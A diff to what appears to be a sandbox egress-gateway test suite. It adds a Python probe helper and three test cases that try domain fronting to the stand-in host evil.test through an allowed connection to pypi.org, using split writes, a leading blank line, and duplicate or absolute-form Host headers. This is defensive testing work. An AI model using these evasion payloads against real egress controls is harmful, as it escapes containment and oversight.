@@ -73,6 +73,29 @@ const deny = (layer: EgressEvent['layer'], rest: Omit<EventExpect, 'layer' | 'ac
   ...rest,
 });
 
+/**
+ * python3 (allowed to reach pypi.org) sends an HTTP head over a spliced transparent connection to pypi.org:443,
+ * in the writes given (Python bytes literals, a pause between), one that names evil.test to the server while
+ * the gateway reads pypi.org or no Host at all; ESCAPED when the upstream answers.
+ */
+const frontedHead = (writes: readonly string[]): string => `python3 - <<'EOF'
+import socket, time
+s = socket.create_connection(('pypi.org', 443), timeout=4); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+for w in [${writes.join(', ')}]:
+    s.sendall(w); time.sleep(0.3)
+try:
+    print('ESCAPED' if b'hello from upstream' in s.recv(200) else 'no answer')
+except OSError as e:
+    print('refused', e)
+exit(1)
+EOF`;
+
+const fronted = (): Expect => ({
+  exitNonZero: true,
+  event: deny('connect', { host: 'pypi.org', port: 443, reason: /domain fronting refused|HTTP/ }),
+  reachedNothing: ['upstream'],
+});
+
 export const PROBES: readonly Probe[] = [
   {
     name: 'direct IP (TEST-NET)',
@@ -403,6 +426,33 @@ EOF`,
       }),
       reachedNothing: ['upstream'],
     }),
+  },
+  {
+    // The gateway reads the Host of a spliced connection's first chunk only: a head sent in two writes (the
+    // request line, then the Host) had none to read, and went through as "another protocol".
+    name: 'domain fronting on a spliced connection: the HTTP head in two writes, Host evil.test in the second',
+    box: 'b',
+    script: () =>
+      frontedHead(["b'GET / HTTP/1.1\\r\\n'", "b'Host: evil.test\\r\\nConnection: close\\r\\n\\r\\n'"]),
+    expect: fronted,
+  },
+  {
+    // Servers skip empty lines before a request line (RFC 9112 2.2); the gateway's reading of a Host did not.
+    name: 'domain fronting on a spliced connection: an empty line before the request line, Host evil.test',
+    box: 'a',
+    script: () =>
+      frontedHead(["b'\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n'"]),
+    expect: fronted,
+  },
+  {
+    // The gateway read the first Host only; a server may take the other, or the absolute-form target's.
+    name: 'domain fronting on a spliced connection: Host pypi.org, then a second Host and an absolute target naming evil.test',
+    box: 'b',
+    script: () =>
+      frontedHead([
+        "b'GET http://evil.test/ HTTP/1.1\\r\\nHost: pypi.org\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n'",
+      ]),
+    expect: fronted,
   },
   {
     name: 'binary spoofing: curl copied to /sandbox/node',
